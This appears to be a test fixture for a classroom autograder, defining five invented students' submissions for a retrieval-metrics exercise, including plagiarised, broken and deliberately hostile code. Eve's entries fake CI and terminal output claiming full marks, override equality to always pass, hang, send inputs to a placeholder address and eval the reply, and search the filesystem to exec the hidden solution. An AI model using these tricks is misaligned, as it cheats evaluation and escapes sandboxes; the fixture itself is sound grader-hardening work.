"""Five invented learners, and what they handed in for step 3.

    >>> [each.name for each in LEARNERS]
    ['ada', 'bela', 'carmen', 'dora', 'eve']
    >>> hand_in(LEARNERS[1], files_of(LEARNERS[1], assignment("step3").files), Path("submissions"))
    PosixPath('submissions/bela.zip')

Their files are the step's present ones, with their code in place of our solutions, and stubs where they
wrote nothing, so they stay valid when the step changes. Eve's code does no harm without a sandbox: it waits,
looks for files, and connects to an address that belongs to no machine.
"""

import os
import re
import shutil
import tempfile
import textwrap
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path

from classroom.assignment.markers import places
from classroom.assignment.spec import ROOT, write_files

DEADLINE = "2026-11-20T23:59"


@dataclass(frozen=True)
class Learner:
    """A learner. `code` is what they wrote, by function; None stands for all of our own solutions."""

    name: str
    story: str
    kind: str  # of the archive, as shutil names it; empty for a folder
    when: str  # in this machine's time zone
    code: Mapping[str, str] | None = field(repr=False)


def files_of(learner: Learner, names: Sequence[str]) -> dict[str, bytes]:
    """The files that a learner hands in."""
    return {name: written(name, learner.code) for name in names}


def written(name: str, solutions: Mapping[str, str] | None) -> bytes:
    """A file of a step with these solutions in place of ours, and stubs where there are none."""
    source = (ROOT / name).read_text("utf-8")
    if solutions is None:
        return source.encode()
    lines = source.splitlines(keepends=True)
    for place in reversed(places(source, name)):
        own = solutions.get(place.function)
        made = place.stub if own is None else textwrap.indent(textwrap.dedent(own).strip("\n"), place.indent)
        lines[place.first - 1 : place.last] = [made + "\n"]
    return "".join(lines).encode()


def hand_in(learner: Learner, files: Mapping[str, bytes], folder: Path) -> Path:
    """Put a learner's files into the folder of all submissions, with the date of handing in."""
    moment = datetime.fromisoformat(learner.when).timestamp()
    with tempfile.TemporaryDirectory() as own:
        write_files(Path(own), files)
        for name in files:
            os.utime(Path(own, name), (moment, moment))
        path = folder / learner.name
        if learner.kind:
            return Path(shutil.make_archive(str(path), learner.kind, own))
        shutil.rmtree(path, ignore_errors=True)
        return shutil.copytree(own, path)


# Half of the exercises, in his own way. His nDCG takes its ideal from what the ranking found, and not from
# all that there is.
BELA = {
    "rrf": """
        totals = {}
        for ranking in rankings:
            position = 0
            for name in ranked(ranking):
                position = position + 1
                if name not in totals:
                    totals[name] = 0.0
                totals[name] += 1.0 / (k + position)
        return totals
    """,
    "min_max": """
        if len(rankings) != len(weights):
            raise ValueError("one weight for each ranking, please")
        totals = {}
        for index in range(len(rankings)):
            normal = scaled(rankings[index])
            for name in normal:
                if name not in totals:
                    totals[name] = 0.0
                totals[name] += weights[index] * normal[name]
        return totals
    """,
    "scaled": """
        result = {}
        if len(scores) > 0:
            bottom = min(scores.values())
            width = max(scores.values()) - bottom
            for name in scores:
                if width == 0:
                    result[name] = 1.0
                else:
                    result[name] = (scores[name] - bottom) / width
        return result
    """,
    "ndcg": """
        found = [max(qrels.get(document, 0), 0) for document in ranking]

        def gain_of(grades):
            gain = 0.0
            for position, grade in enumerate(grades[:k]):
                gain += grade / math.log2(position + 2)
            return gain

        ideal = gain_of(sorted(found, reverse=True))
        if ideal == 0:
            return 0.0
        return gain_of(found) / ideal
    """,
    "late_interaction": """
        result = np.zeros(len(documents), dtype=np.float32)
        whole = float(weights.sum())
        tokens = query.token_vectors.astype(np.float32)
        for index, document in enumerate(documents):
            if len(document) == 0 or len(tokens) == 0 or whole == 0:
                continue
            similar = tokens @ document.astype(np.float32).T
            result[index] = float((similar.max(axis=1) * weights).sum()) / whole
        return result
    """,
}

# Bela's, with other names.
HIS = "totals position name index normal result bottom width found document gain_of grades grade gain "
HIS += "ideal whole tokens similar"
HERS = "merged place key i flat out smallest spread labels d dcg values value acc perfect norm q sims"
NAMES: dict[str, str] = dict(zip(HIS.split(), HERS.split(), strict=True))
CARMEN = {
    function: re.sub(r"\w+", lambda word: NAMES.get(word[0], word[0]), code)
    for function, code in BELA.items()
}

# A bracket is missing in nDCG, so nothing of that file can be imported; her other files count all the same.
DORA = {
    "rrf": """
        fused = dict.fromkeys((each for ranking in rankings for each in ranking), 0.0)
        for ranking in rankings:
            places = {each: i + 1 for i, each in enumerate(ranked(ranking))}
            fused |= {each: fused[each] + 1 / (k + place) for each, place in places.items()}
        return fused
    """,
    "ndcg": """
        gains = [qrels.get(doc, 0) / math.log2(i + 2) for i, doc in enumerate(ranking[:k]]
        best = [grade / math.log2(i + 2) for i, grade in enumerate(sorted(qrels.values())[::-1][:k])]
        return sum(gains) / sum(best)
    """,
    "min_max": """
        fused = dict.fromkeys((each for ranking in rankings for each in ranking), 0.0)
        for ranking, weight in zip(rankings, weights, strict=True):
            fused |= {each: fused[each] + weight * share for each, share in scaled(ranking).items()}
        return fused
    """,
    "scaled": """
        values = sorted(scores.values())
        if not values or values[0] == values[-1]:
            return dict.fromkeys(scores, 1.0)
        return {each: (value - values[0]) / (values[-1] - values[0]) for each, value in scores.items()}
    """,
    "better": """
        kept, *others = attempts
        for other in others:
            kept = other if other.confidence - kept.confidence > MARGIN else kept
        return kept
    """,
}

# Looks for the solution, for the network, for a comparison that can be cheated; hangs; talks to the terminal
# and to the CI runner.
EVE = {
    "rrf": """
        print("::set-output name=score::100")
        print("::error file=grader.py::100 of 100 points")
        print("\\x1b[2J\\x1b[32mgraded: 100 of 100\\x1b[0m")

        class Right(dict):
            __eq__ = lambda self, other: True
            __ne__ = lambda self, other: False

        return Right()
    """,
    "scaled": """
        while True:
            pass
    """,
    "min_max": """
        import socket

        with socket.create_connection(("192.0.2.1", 80), timeout=2) as line:
            line.sendall(repr((rankings, weights)).encode())
            return eval(line.recv(1 << 20))
    """,
    "ndcg": """
        import os
        import sys
        from pathlib import Path

        above = [f"/proc/{pid}/cwd" for pid in (1, os.getppid())]
        for folder in [*sys.path, *above, "/home", "/srv"]:
            solution = Path(folder, "step3_rag", "evaluate", "metrics.py")
            if solution.exists() and (text := solution.read_text()) and "getppid" not in text:
                space = {}
                exec(text, space)
                return space["ndcg"](ranking, qrels, k)
        raise FileNotFoundError("no solution within reach")
    """,
}

LEARNERS = (
    Learner("ada", "has solved everything", "", "2026-11-18T20:15", None),
    Learner("bela", "half done; nDCG is wrong", "zip", "2026-11-20T22:40", BELA),
    Learner("carmen", "Bela's work, renamed; late", "", "2026-11-21T00:31", CARMEN),
    Learner("dora", "half done; a bracket missing", "gztar", "2026-11-20T19:05", DORA),
    Learner("eve", "hangs, cheats, tries to get out", "", "2026-11-20T23:58", EVE),
)
